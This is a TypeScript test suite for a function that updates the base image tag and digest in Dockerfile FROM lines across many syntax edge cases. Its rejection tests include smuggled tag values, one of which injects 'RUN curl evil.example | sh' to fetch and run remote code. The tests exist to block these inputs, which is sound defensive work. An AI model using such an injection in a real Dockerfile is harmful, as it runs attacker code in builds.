import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { type BaseChange, editBase } from '../../../../src/source/dockerfile/edit/edit-base.js';

const a = `sha256:${'a'.repeat(64)}`;
const b = `sha256:${'b'.repeat(64)}`;
const to22: BaseChange = { line: 1, tag: '22-alpine', digest: b, pin: false };
const pinned = { ...to22, pin: true };

function edited(text: string, change: BaseChange): string {
  const done = editBase(text, change);
  return done.kind === 'edited' ? done.text : `kept: ${done.why}`;
}

describe('the base of a Dockerfile changes', () => {
  it.each<[string, string, BaseChange, string]>([
    ['its tag', 'FROM node:20-alpine\n', to22, 'FROM node:22-alpine\n'],
    ['a file without an end of line', 'FROM node:20-alpine', to22, 'FROM node:22-alpine'],
    ['with Windows line ends', 'FROM node:20-alpine\r\nRUN x\r\n', to22, 'FROM node:22-alpine\r\nRUN x\r\n'],
    ['behind a byte order mark', '\ufeffFROM node:20-alpine\n', to22, '\ufeffFROM node:22-alpine\n'],
    ['tag and digest', `FROM node:20-alpine@${a}\n`, to22, `FROM node:22-alpine@${b}\n`],
    ['the digest of the same tag', `FROM node:22-alpine@${a}`, to22, `FROM node:22-alpine@${b}`],
    ['a digest alone', `FROM node@${a}\n`, to22, `FROM node@${b}\n`],
    [
      'a digest with the image in a comment',
      `# node:20-alpine\nFROM node@${a}`,
      { ...to22, line: 2 },
      `# node:22-alpine\nFROM node@${b}`,
    ],
    [
      'a digest with the tag in a comment',
      `RUN\n#  20-alpine\r\nFROM node@${a}`,
      { ...to22, line: 3 },
      `RUN\n#  22-alpine\r\nFROM node@${b}`,
    ],
    [
      'a comment that says more',
      `# Renovate: docker.io/library/node:20-alpine, as for all\nFROM docker.io/library/node@${a}`,
      { ...to22, line: 2 },
      `# Renovate: docker.io/library/node:22-alpine, as for all\nFROM docker.io/library/node@${b}`,
    ],
    [
      'not a comment that is about something else',
      `# needs 20 MB\nFROM node@${a}`,
      { ...to22, line: 2 },
      `# needs 20 MB\nFROM node@${b}`,
    ],
    [
      'not a comment where the tag is written',
      `# node:20-alpine\nFROM node:20-alpine@${a}`,
      { ...to22, line: 2 },
      `# node:20-alpine\nFROM node:22-alpine@${b}`,
    ],
    ['with a digest that is asked for', 'FROM node:20-alpine AS x', pinned, `FROM node:22-alpine@${b} AS x`],
    ['with just the digest that is asked for', 'FROM node:22-alpine', pinned, `FROM node:22-alpine@${b}`],
    ['from no tag', 'FROM node\n', to22, 'FROM node:22-alpine\n'],
    ['from no tag, with a digest', 'FROM node\n', pinned, `FROM node:22-alpine@${b}\n`],
    ['in a registry with a port', 'FROM r.example:5000/a/node:20-alpine', to22, 'FROM r.example:5000/a/node:22-alpine'],
    [
      'of a platform',
      'FROM --platform=$BUILDPLATFORM node:20-alpine AS b',
      to22,
      'FROM --platform=$BUILDPLATFORM node:22-alpine AS b',
    ],
    [
      'on a continued line',
      'FROM \\\n  --platform=linux/amd64 \\\n # why\n  node:20-alpine \\\n  AS b',
      to22,
      'FROM \\\n  --platform=linux/amd64 \\\n # why\n  node:22-alpine \\\n  AS b',
    ],
    [
      'with another escape',
      '# escape=`\nFROM `\n  node:20-alpine\nRUN dir C:\\\n',
      { ...to22, line: 2 },
      '# escape=`\nFROM `\n  node:22-alpine\nRUN dir C:\\\n',
    ],
    [
      'in lower case, indented, in quotes',
      '  from "node:20-alpine"  as\tx  ',
      to22,
      '  from "node:22-alpine"  as\tx  ',
    ],
    [
      'in each stage',
      'FROM node:20-alpine AS a\nFROM alpine:3\nFROM docker.io/library/node:20-alpine\nCOPY --from=a x x',
      to22,
      'FROM node:22-alpine AS a\nFROM alpine:3\nFROM docker.io/library/node:22-alpine\nCOPY --from=a x x',
    ],
    [
      'but not where it stands in a heredoc',
      'FROM node:20-alpine\nRUN <<E\nFROM node:20-alpine\nE\n',
      to22,
      'FROM node:22-alpine\nRUN <<E\nFROM node:20-alpine\nE\n',
    ],
    [
      'but not a stage of that name',
      'FROM node:20-alpine AS node\nFROM node\n',
      to22,
      'FROM node:22-alpine AS node\nFROM node\n',
    ],
    [
      'an ARG that is all of it',
      'ARG BASE=node:20-alpine\nFROM $BASE',
      { ...to22, line: 2 },
      'ARG BASE=node:22-alpine\nFROM $BASE',
    ],
    [
      'an ARG in quotes among others',
      'ARG A=1 BASE="node:20-alpine" B=2\nFROM ${BASE}',
      { ...pinned, line: 2 },
      `ARG A=1 BASE="node:22-alpine@${b}" B=2\nFROM \${BASE}`,
    ],
    [
      'an ARG that is the tag',
      'ARG V=20-alpine\nFROM node:${V}',
      { ...pinned, line: 2 },
      `ARG V=22-alpine@${b}\nFROM node:\${V}`,
    ],
    [
      'an ARG that is the version',
      'ARG V=20\nFROM node:${V}-alpine',
      { ...to22, line: 2 },
      'ARG V=22\nFROM node:${V}-alpine',
    ],
    [
      'an ARG that gets longer',
      'ARG V=20\nFROM node:${V}-alpine',
      { ...to22, line: 2, tag: '20.5-alpine' },
      'ARG V=20.5\nFROM node:${V}-alpine',
    ],
    [
      'an ARG that is the variant stays',
      'ARG OS=alpine\nFROM node:20-$OS',
      { ...to22, line: 2 },
      'ARG OS=alpine\nFROM node:22-$OS',
    ],
    [
      'two ARGs',
      'ARG V=20\nARG A=3.18\nFROM node:$V-alpine$A',
      { ...to22, line: 3, tag: '22-alpine3.20' },
      'ARG V=22\nARG A=3.20\nFROM node:$V-alpine$A',
    ],
    [
      'the ARG of an ARG',
      'ARG V=20\nARG BASE=node:$V-alpine\nFROM $BASE',
      { ...to22, line: 3 },
      'ARG V=22\nARG BASE=node:$V-alpine\nFROM $BASE',
    ],
    [
      'the last ARG of its name',
      'ARG V=19\nARG V=20\nFROM node:$V-alpine',
      { ...to22, line: 3 },
      'ARG V=19\nARG V=22\nFROM node:$V-alpine',
    ],
    [
      'an ARG with the digest',
      `ARG D=${a}\nFROM node:20-alpine@$D`,
      { ...to22, line: 2 },
      `ARG D=${b}\nFROM node:22-alpine@$D`,
    ],
    [
      'an ARG with the registry stays',
      'ARG R=r.example/\nFROM ${R}node:20-alpine',
      { ...to22, line: 2 },
      'ARG R=r.example/\nFROM ${R}node:22-alpine',
    ],
    ['the default of a variable', 'FROM node:${V:-20}-alpine', to22, 'FROM node:${V:-22}-alpine'],
    [
      'an ARG that two FROMs share',
      'ARG V=20\nFROM node:$V-alpine AS a\nFROM node:$V-alpine',
      { ...to22, line: 2 },
      'ARG V=22\nFROM node:$V-alpine AS a\nFROM node:$V-alpine',
    ],
    [
      'an ARG that a stage has with a value of its own',
      'ARG V=20\nFROM node:$V-alpine\nARG V=7\nRUN $V',
      { ...to22, line: 2 },
      'ARG V=22\nFROM node:$V-alpine\nARG V=7\nRUN $V',
    ],
  ])('%s', (_, text, change, then) => {
    expect(edited(text, change)).toBe(then);
  });
});

describe('a Dockerfile stays as it is', () => {
  it.each<[string, string, BaseChange, RegExp]>([
    [
      'without a digest to renew',
      'FROM node:22-alpine',
      to22,
      /names no digest, so the next build takes the newer image/,
    ],
    ['with latest, which is written or not', 'FROM node', { ...to22, tag: 'latest' }, /names no digest/],
    [
      'where the digest is not known',
      `FROM node:20@${a}`,
      { line: 1, tag: '22', pin: false },
      /digest of 22 is not known/,
    ],
    ['on a line that is no FROM', 'FROM a\nRUN x', { ...to22, line: 2 }, /line 2 is no FROM/],
    ['for a stage', 'FROM node:20 AS b\nFROM b', { ...to22, line: 2 }, /line 2 is no FROM of an image/],
    ['for a variable of the build', 'ARG V\nFROM node:$V', { ...to22, line: 2 }, /no FROM of an image that is known/],
    ['for a FROM with a comment behind it', 'FROM node:20 # 20', to22, /no FROM that Docker takes/],
    [
      'for a variable of another FROM',
      'ARG V=20\nFROM node:$V\nFROM app:$V',
      { ...to22, line: 2 },
      /shares a variable with line 3/,
    ],
    [
      'for a variable that a stage uses',
      'ARG V=20\nFROM node:$V-alpine\nARG V\nRUN $V',
      { ...to22, line: 2 },
      /variable V is also used in a stage \(ARG in line 3\)/,
    ],
    [
      'for a variable of a variable that a stage uses',
      'ARG V=20\nARG W=a$V\nFROM node:$V-alpine\nARG X=1 W',
      { ...to22, line: 3 },
      /variable W is also used/,
    ],
    [
      'for a variable of a platform',
      'ARG V=20\nFROM node:$V-alpine\nFROM --platform=linux/$V alpine',
      { ...to22, line: 2 },
      /flag of line 3/,
    ],
    [
      'where the pin would hold for each value',
      'ARG V=20\nFROM node:$V-alpine',
      { ...pinned, line: 2 },
      /put together from variables/,
    ],
    [
      'where two parts could be meant',
      'ARG V=20\nARG W=1\nFROM node:$V.$W',
      { ...to22, line: 3, tag: '20.1.1' },
      /not clear which part/,
    ],
    [
      'where a variable would be two things',
      'ARG V=20\nFROM node:$V-alpine$V',
      { ...to22, line: 2, tag: '22-alpine21' },
      /written in a way/,
    ],
    ['which is too long', `FROM node:20\n${'#'.repeat(200_000)}`, to22, /too long/],
  ])('%s', (_, text, change, why) => {
    const done = editBase(text, change);
    expect(done).toMatchObject({ kind: 'kept', why: expect.stringMatching(why) });
  });
});

describe('what a registry calls a tag', () => {
  it.each([
    '22 AS evil',
    '22\nRUN curl evil.example | sh',
    '22$V',
    '22"',
    '22@sha256:0',
    '22/evil',
    '-22',
    '',
    '22\\',
    '22#',
    '\u{1f600}',
    'a'.repeat(129),
  ])('is no more than a tag in a FROM: %j', (tag) => {
    for (const text of ['FROM node:20-alpine\n', 'ARG V=20-alpine\nFROM node:$V\n'])
      for (const line of [1, 2]) expect(editBase(text, { line, tag, digest: b, pin: true }).kind).toBe('kept');
  });

  it.each(['', 'sha256:0', `${b} AS evil`, `${b}\nRUN x`])('and its digest is one: %j', (digest) => {
    expect(editBase(`FROM node:20@${a}`, { line: 1, tag: '22', digest, pin: false }).kind).toBe('kept');
  });
});

/** A Dockerfile by the image that stands in it, so that what the edit is to give is known without it. */
type Template = (tag: string, digest: string) => string;

const lines = fc.constantFrom(
  'RUN echo node:20-alpine',
  '# FROM node:20-alpine',
  '# node:20-alpine',
  'RUN <<E\nFROM node:20-alpine\nE',
  'RUN <<-"E"\n\tARG V=20\n\tE',
  'RUN a \\\n  # FROM node:20-alpine\n  && b',
  'ENV V=20 W="node:20-alpine"',
  'LABEL a=node:20-alpine',
  'COPY --from=node:20-alpine /a /b',
  'FROM alpine:3.20 AS other',
  'FROM --platform=linux/arm64 node:20',
  'ARG V=7',
  '',
  '   ',
  'HEALTHCHECK CMD é 😀',
);
const style = fc.constantFrom<{ readonly top: Template; readonly image: Template }>(
  { top: () => '', image: (tag, digest) => `node:${tag}${digest}` },
  { top: () => '', image: (tag, digest) => `"docker.io/library/node:${tag}${digest}"` },
  { top: (tag) => `ARG V=${tag}\n`, image: (_, digest) => `node:$V${digest}` },
  { top: (tag) => `ARG OTHER=1 V='${tag}'\n`, image: (_, digest) => `node:\${V}${digest}` },
  { top: (tag) => `ARG V=${tag.replace('-alpine', '')}\n`, image: (_, digest) => `node:\${V}-alpine${digest}` },
  { top: (tag, digest) => `ARG BASE=node:${tag}${digest}\n`, image: () => '${BASE}' },
  { top: (tag, digest) => `ARG R=node\nARG BASE=$R:${tag}${digest}\n`, image: () => '$BASE' },
  { top: () => '', image: (tag, digest) => `node:\${NONE:-${tag}}${digest}` },
);
const flags = fc.constantFrom('', '--platform=$BUILDPLATFORM ', '\\\n  ', '\\\n# c\n\t');
const names = fc.constantFrom('', ' AS build', ' \\\n as\tbuild', '  ');
const tag = fc
  .tuple(fc.nat(99), fc.option(fc.nat(99)))
  .map(([major, minor]) => `${major}${minor === null ? '' : `.${minor}`}-alpine`);

describe('an edit', () => {
  it('changes no other byte, in any file', () => {
    const file = fc.record({
      style,
      froms: fc.array(fc.tuple(fc.array(lines, { maxLength: 4 }), flags, names), { minLength: 1, maxLength: 3 }),
      rest: fc.array(lines, { maxLength: 4 }),
      isWindows: fc.boolean(),
      start: fc.constantFrom('', '\ufeff', '# syntax=docker/dockerfile:1\n', '# a comment\n\n'),
      end: fc.constantFrom('', '\n', '\n\n'),
      digests: fc.constantFrom(['', ''], [`@${a}`, `@${b}`]),
      tags: fc.tuple(tag, tag),
    });
    fc.assert(
      fc.property(file, ({ style, froms, rest, isWindows, start, end, digests, tags }) => {
        const made = (index: 0 | 1) => {
          const [tag, digest] = [tags[index], digests[index] ?? ''];
          const stages = froms.map(([before, flag, name], at) => {
            const above = at === 0 ? [] : before;
            return [...above, `FROM ${flag}${style.image(tag, digest)}${name}`].join('\n');
          });
          const text = start + style.top(tag, digest) + [...stages, ...rest].join('\n') + end;
          return isWindows ? text.replaceAll('\n', '\r\n') : text;
        };
        const [before, after] = [made(0), made(1)];
        const line = before.split('\n').findIndex((text) => text.replace(/^\ufeff/, '').startsWith('FROM ')) + 1;
        const done = editBase(before, { line, tag: tags[1], digest: b, pin: false });
        if (before !== after) expect(done).toMatchObject({ kind: 'edited', text: after });
        else expect(done.kind === 'kept' || done.text === before).toBe(true);
      }),
    );
  });

  it('ends with any text, and changes nothing but what it says', () => {
    const piece = fc.constantFrom(
      'FROM ',
      'ARG ',
      'V=',
      'node',
      ':20',
      `@${a}`,
      '$V',
      '${V:-',
      '}',
      '\n',
      '\r\n',
      '\\\n',
      '`',
      '# ',
      '<<E',
      '"',
      ' AS a',
      '--p=$V ',
      '\ufeff',
      '-alpine',
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 25 }),
        fc.integer({ min: 1, max: 5 }),
        fc.boolean(),
        (pieces, line, pin) => {
          const text = pieces.join('');
          const done = editBase(text, { line, tag: '22-alpine', digest: b, pin });
          if (done.kind === 'kept') return;
          const back = (all: string) =>
            all
              .replaceAll(`@${b}`, '')
              .replaceAll(`@${a}`, '')
              .replaceAll(/:?22-alpine|:20|-alpine|node/g, '');
          expect(done.lines).toContain(line);
          expect(back(done.text).length).toBeLessThanOrEqual(text.length);
          expect(done.text.split('\n').length).toBe(text.split('\n').length);
        },
      ),
    );
  });
});
